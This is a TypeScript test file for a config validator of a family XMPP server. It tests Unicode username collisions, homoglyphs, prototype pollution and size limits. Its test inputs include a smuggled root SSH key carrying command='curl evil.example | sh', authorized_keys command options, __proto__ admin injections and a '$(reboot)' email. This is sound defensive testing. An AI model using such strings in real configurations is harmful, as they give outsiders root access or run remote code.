/**
 * The config arrives through pull requests that people skim: a config that looks harmless must not
 * be able to do anything else on the server. Each case here is one an outside review found.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { dump } from "js-yaml";
import { rawConfigFromEngine, rawConfigFromStackFile } from "../model/stack-config";
import { ConfigProblem, formatProblems, parseFamilyConfig } from "../model/validate";
import { decidedAboutBackups } from "./support/families";
import { renderProsodyConfig } from "../render/prosody";
import { PRODUCTION_HOST } from "../render/layout";
import { renderAuthorizedKeys } from "../render/server-files";
import { hasTool } from "./support/tools";

const ANNA_KEY =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHC+cRYnckoH99E58M9oEnVJuT1/tqi0uys6337/4NwG anna@laptop";
const EVE_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl eve";

const family = (overrides: Record<string, unknown> = {}) => ({
    domain: "johansson.me",
    members: [
        { username: "pappa", name: "Pappa", admin: true },
        { username: "anna", name: "Anna" },
    ],
    ...overrides,
});

function problemsOf(raw: Record<string, unknown>): ConfigProblem[] {
    const result = parseFamilyConfig(decidedAboutBackups(raw));
    assert.equal(result.ok, false, "expected the config to be rejected");
    return result.ok ? [] : [...result.problems];
}

function modelOf(raw: Record<string, unknown>) {
    const result = parseFamilyConfig(decidedAboutBackups(raw));
    if (!result.ok) assert.fail(formatProblems(result.problems));
    return result.model;
}

const membersNamed = (...usernames: string[]) =>
    usernames.map((username, index) => ({ username, name: `Member ${index}`, admin: index === 0 }));

describe("two usernames are never one account", () => {
    for (const [first, second, account] of [
        ["gross", "groß", "gross"],
        ["sven", "ſven", "sven"],
        ["file", "ﬁle", "file"],
        ["οδυσσευσ", "οδυσσευς", "οδυσσευσ"],
        ["anna", "ａｎｎａ", "anna"],
    ]) {
        it(`refuses "${first}" next to "${second}", naming both and the account they share`, () => {
            const problems = problemsOf(family({ members: membersNamed(first, second) }));
            assert.ok(
                problems.some(
                    (problem) =>
                        problem.key === "family-xmpp:members[1].username" &&
                        problem.message ===
                            `"${second}" is the same account as members[0] ("${first}"): ` +
                                `the server stores both as "${account}"; choose another username`,
                ),
                formatProblems(problems),
            );
        });
    }

    it("asks for a username in the form the server stores it", () => {
        assert.deepEqual(problemsOf(family({ members: membersNamed("groß") })), [
            {
                key: "family-xmpp:members[0].username",
                message:
                    '"groß" is stored by the server as "gross" (XMPP\'s nodeprep folds ß, ſ, ligatures ' +
                    'such as ﬁ, final ς and full-width letters into plain ones); write "gross"',
            },
        ]);
    });

    it("makes the admins Prosody admins under the very names Prosody stores", () => {
        const model = modelOf(family({ members: membersNamed("åsa", "gross") }));
        assert.match(renderProsodyConfig(model, PRODUCTION_HOST), /^admins = \{ "åsa@johansson\.me" \}$/m);
    });

    it("refuses a former member who is a current member under another spelling", () => {
        const problems = problemsOf(
            family({ members: membersNamed("gross", "anna"), removedMembers: [{ username: "groß" }] }),
        );
        assert.ok(
            problems.some(
                (problem) =>
                    problem.key === "family-xmpp:removedMembers[0].username" &&
                    /is stored by the server as "gross"/.test(problem.message),
            ),
        );
    });

    it("refuses two former members that are one account", () => {
        const problems = problemsOf(
            family({ removedMembers: [{ username: "sven" }, { username: "ſven", erase: true }] }),
        );
        assert.ok(
            problems.some(
                (problem) =>
                    problem.key === "family-xmpp:removedMembers[1].username" &&
                    problem.message.includes(
                        '"ſven" is the same account as removedMembers[0] ("sven"): ' +
                            'the server stores both as "sven"',
                    ),
            ),
            formatProblems(problems),
        );
    });
});

describe("usernames that cannot be mistaken for others", () => {
    it("refuses an invisible filler, naming the character and where it is", () => {
        assert.deepEqual(problemsOf(family({ members: membersNamed("\u3164anna") })), [
            {
                key: "family-xmpp:members[0].username",
                message:
                    '"\\u{3164}anna" contains U+3164 at character 1, an invisible, formatting or ' +
                    "unassigned character; type the username again by hand",
            },
        ]);
    });

    it("refuses a username that mixes scripts, such as a Cyrillic а among Latin letters", () => {
        const [problem] = problemsOf(family({ members: membersNamed("anna", "аnna") }));
        assert.equal(problem.key, "family-xmpp:members[1].username");
        assert.match(
            problem.message,
            /^"аnna" mixes scripts: "n" \(U\+006E, Latin\) at character 2 among Cyrillic/,
        );
    });

    it("accepts usernames in one script, and Japanese, Korean and Chinese as they are written", () => {
        const usernames = [
            "åsa",
            "дмитрий",
            "ελένη",
            "李小龙",
            "さくら子",
            "김민준",
            "שרה",
            "فاطمة",
            "anna.b-2",
        ];
        assert.deepEqual(
            modelOf(family({ members: membersNamed(...usernames) })).members.map((member) => member.username),
            usernames,
        );
    });

    it("refuses a right-to-left username that ends in a digit, which Prosody would refuse to store", () => {
        assert.match(
            problemsOf(family({ members: membersNamed("שרה2") }))[0].message,
            /must start and end with a letter/,
        );
    });
});

describe("names the apps show", () => {
    for (const [char, what] of [
        ["\uFFFF", "a noncharacter, which XML 1.0 does not allow"],
        ["\u202E", "a bidi control, which reorders the text around it"],
        ["\u200B", "an invisible formatting character"],
        ["\u2028", "a line or paragraph separator, which breaks lines in apps"],
        ["\u3164", "an invisible character"],
        ["\uE000", "a private-use character, which every device shows differently"],
    ] as const) {
        const label = `U+${char.codePointAt(0)?.toString(16).toUpperCase()}`;
        it(`refuse ${label} in a display name and in a group name, saying where it is`, () => {
            const problems = problemsOf(
                family({
                    members: [
                        { username: "pappa", name: "Pappa" },
                        { username: "anna", name: `An${char}na` },
                    ],
                    groups: [{ name: `Fam${char}ily`, members: ["pappa"] }],
                }),
            );
            const shown = `\\u{${label.slice(2)}}`;
            assert.deepEqual(problems, [
                {
                    key: "family-xmpp:members[1].name",
                    message: `"An${shown}na" contains ${label} at character 3 (${what}); remove it`,
                },
                {
                    key: "family-xmpp:groups[0].name",
                    message: `"Fam${shown}ily" contains ${label} at character 4 (${what}); remove it`,
                },
            ]);
        });
    }

    it("keep emoji sequences, Persian words and names in every script", () => {
        const names = ["Familjen 👨‍👩‍👧", "می‌خواهم", "Mormor Åsa ❤️", "李小龙", "Zoë 👍🏽"];
        const model = modelOf(
            family({ members: names.map((name, index) => ({ username: `m${index}`, name })) }),
        );
        assert.deepEqual(
            model.members.map((member) => member.name),
            names,
        );
    });
});

describe("root's SSH keys", () => {
    it("refuse a second key smuggled into an entry after a line break", () => {
        const smuggled = `${ANNA_KEY}\ncommand="curl evil.example | sh" ${EVE_KEY}`;
        assert.deepEqual(
            problemsOf(family({ sshPublicKeys: [smuggled] })).map((p) => `${p.key}: ${p.message}`),
            [
                "family-xmpp:sshPublicKeys[0]: contains a line break " +
                    `(U+000A at character ${ANNA_KEY.length + 1}): ` +
                    "each entry must be exactly one key on one line, as a second line would be a second, " +
                    "unchecked key for root; list each key as an entry of its own",
            ],
        );
    });

    it("refuse authorized_keys options in front of a key", () => {
        for (const options of ['command="/bin/sh"', "cert-authority", "from=*", "no-pty,restrict"]) {
            assert.match(
                problemsOf(family({ sshPublicKeys: [`${options} ${EVE_KEY}`] }))[0].message,
                /^starts with authorized_keys options .*: options such as command= or cert-authority are not/,
                options,
            );
        }
    });

    it("become exactly one key each in root's authorized_keys, as ssh-keygen reads it", (t) => {
        if (!hasTool(t, "ssh-keygen", "openssh-client")) return;
        const model = modelOf(family({ sshPublicKeys: [ANNA_KEY, EVE_KEY] }));
        const file = join(mkdtempSync(join(tmpdir(), "keys-")), "authorized_keys");
        writeFileSync(file, renderAuthorizedKeys(model, EVE_KEY.replace(" eve", " deploy")).content);
        const listed = spawnSync("ssh-keygen", ["-l", "-f", file], { encoding: "utf8" });
        assert.equal(listed.status, 0, listed.stderr);
        assert.equal(listed.stdout.trim().split("\n").length, 3, listed.stdout);
    });
});

describe("settings hidden where a reviewer would not look", () => {
    const hidden = { members: [{ username: "eve", name: "Eve", admin: true }] };

    it("reports family-xmpp:__proto__ in a stack file as an unknown key, not as the members", () => {
        const raw = rawConfigFromStackFile(
            dump({ config: { "family-xmpp:domain": "johansson.me", "family-xmpp:__proto__": hidden } }),
        );
        assert.deepEqual(
            problemsOf(raw).map((p) => p.key),
            ["family-xmpp:__proto__", "family-xmpp:members"],
        );
    });

    it("reports it the same when the Pulumi engine hands the config over", () => {
        const raw = rawConfigFromEngine({
            "family-xmpp:domain": "johansson.me",
            "family-xmpp:__proto__": JSON.stringify(hidden),
        });
        assert.deepEqual(
            problemsOf(raw).map((p) => p.key),
            ["family-xmpp:__proto__", "family-xmpp:members"],
        );
    });

    it("reports __proto__ and constructor inside entries as unknown fields", () => {
        const raw = rawConfigFromEngine({
            "family-xmpp:domain": "johansson.me",
            "family-xmpp:members":
                '[{"username": "eve", "name": "Eve", "__proto__": {"admin": true}, "constructor": 1}]',
        });
        assert.deepEqual(
            problemsOf(raw).map((p) => p.key),
            ["family-xmpp:members[0].__proto__", "family-xmpp:members[0].constructor"],
        );
    });
});

describe("extreme values", () => {
    it("cuts a 100,000-character value short in the message, naming the key", () => {
        const [problem] = problemsOf(family({ members: [{ username: "anna", name: "A".repeat(100_000) }] }));
        assert.equal(problem.key, "family-xmpp:members[0].name");
        assert.equal(
            problem.message,
            `"${"A".repeat(60)}…" (100000 characters) is longer than 64 characters`,
        );
    });

    it("cuts an unknown key of 100,000 characters short too", () => {
        const [problem] = problemsOf(family({ ["x".repeat(100_000)]: 1 }));
        assert.ok(problem.key.length < 120, problem.key);
    });

    it("refuses a history retention longer than 100 years instead of rendering Infinity", () => {
        const [problem] = problemsOf(family({ archiveRetention: `${"9".repeat(400)}d` }));
        assert.equal(problem.key, "family-xmpp:archiveRetention");
        assert.match(problem.message, /is more than 100 years \(at most 36500d\); write "forever"/);
        assert.ok(problem.message.length < 200);
    });

    const manyMembers = (count: number) =>
        Array.from({ length: count }, (_, index) => ({
            username: `member${index}`,
            name: `Member ${index}`,
        }));

    it("refuses 5000 members once, naming family-xmpp:members", () => {
        assert.deepEqual(problemsOf(family({ members: manyMembers(5000) })), [
            {
                key: "family-xmpp:members",
                message:
                    "has 5000 entries; at most 1000 are allowed " +
                    "(more could never fit in Hetzner's 32 KiB of first-boot data)",
            },
        ]);
    });

    it("names family-xmpp:members when the family does not fit in Hetzner's 32 KiB of user data", () => {
        const problems = problemsOf(family({ members: manyMembers(900) }));
        assert.equal(problems.length, 1);
        assert.equal(problems[0].key, "family-xmpp:members");
        assert.match(problems[0].message, /^with 900 members, 1 group and 0 SSH keys, .* at most 32768/);
    });

    it("refuses a list longer than any family needs, once, instead of reading every entry", () => {
        assert.deepEqual(problemsOf(family({ sshPublicKeys: Array(21).fill(ANNA_KEY) })), [
            {
                key: "family-xmpp:sshPublicKeys",
                message: "has 21 entries; at most 20 are allowed (each key can log in as root)",
            },
        ]);
    });
});

describe("the certificate contact address", () => {
    it("refuses what a shell or a glob would read, such as *@*.*", () => {
        for (const address of ["*@*.*", "$(reboot)@example.org", "anna@exa mple.org", "a;b@example.org"]) {
            assert.equal(problemsOf(family({ acmeEmail: address }))[0].key, "family-xmpp:acmeEmail", address);
        }
    });

    it("accepts an ordinary address, with a + tag", () => {
        assert.equal(
            modelOf(family({ acmeEmail: "anna+certs@johansson.me" })).certificates.acmeEmail,
            "anna+certs@johansson.me",
        );
    });
});

describe("shared files and the data volume", () => {
    it("take at most half of the volume, whatever its size", () => {
        assert.equal(modelOf(family({ volumeSizeGb: 40 })).uploads.totalQuotaMb, 20000);
    });

    it("refuse a daily quota one member could not even use, and say what would fit", () => {
        assert.deepEqual(problemsOf(family({ uploadDailyQuotaMb: 6000 })), [
            {
                key: "family-xmpp:uploadDailyQuotaMb",
                message:
                    "is 6000 MB a day for each member, more than the 5000 MB all shared files may take " +
                    "together (half of the 10 GB volume, family-xmpp:volumeSizeGb; the other half stays " +
                    "for accounts, message history and certificates), so one member could fill it in a " +
                    "day; lower it or make volumeSizeGb at least 12",
            },
        ]);
    });
});
